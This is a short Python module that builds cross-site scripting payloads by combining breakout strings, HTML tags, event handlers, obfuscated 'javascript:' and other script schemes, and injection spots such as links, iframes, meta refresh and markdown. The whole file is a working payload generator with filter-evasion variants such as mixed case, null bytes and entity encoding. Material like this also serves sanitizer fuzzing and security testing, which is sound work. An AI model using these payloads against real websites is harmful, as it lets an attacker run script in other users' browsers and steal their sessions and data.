"""Hostile texts put together of parts: what opens, which tag, which event, which quotes."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_OPENINGS = ("", '">', "'>", "</title>", "</script>", "-->", "`")
_TAGS = (
    *("a", "article", "audio", "body", "button", "canvas", "custom-tag", "details", "div", "embed"),
    *("form", "frameset", "iframe", "img", "input", "keygen", "link", "marquee", "math", "object"),
    *("p", "select", "source", "style", "svg", "table", "textarea", "video"),
)
_EVENTS = (
    *("onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "onbegin"),
    *("onpointerenter", "onpageshow", "OnErRoR", "onerror\n", "on\x00error"),
)
_SHAPES = (
    "<{tag} src=x {event}={run} autofocus open>",
    "<{tag}/src='x'/{event}='{run}'/tabindex=0>x</{tag}>",
    '<{tag}\tsrc="x"\n{event} = "{run}" autofocus>',
    "<{tag} title='<' src=x {event}={run}",
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:"),
    *("&#106;avascript:", "&#x6A;avascript&colon;", "java&Tab;script:", "\x01javascript:"),
    *(
        "javascript&#0000058",
        "vbscript:",
        "data:text/html,<script>",
        "livescript:",
        "feed:javascript:",
    ),
)
_PLACES = (
    "<a href='{url}'>x</a>",
    "<img src='{url}'>",
    "<iframe src='{url}'></iframe>",
    "<form action='{url}'><button formaction='{url}'>x</button></form>",
    "<object data='{url}'></object><embed src='{url}'>",
    "<svg><a xlink:href='{url}'><animate attributeName=href values='{url}'/></a></svg>",
    "<meta http-equiv=refresh content='0;url={url}'><base href='{url}'>",
    "[x]({url}) ![x](<{url}>) <{url}>",
)


def payloads(run: str) -> Iterator[str]:
    """Gives each combination once; `run` is the script that a hole would run."""
    for opening, tag, event, shape in product(_OPENINGS, _TAGS, _EVENTS, _SHAPES):
        yield opening + shape.format(tag=tag, event=event, run=run)
    for opening, scheme, place in product(_OPENINGS, _SCHEMES, _PLACES):
        yield opening + place.format(url=scheme + run)
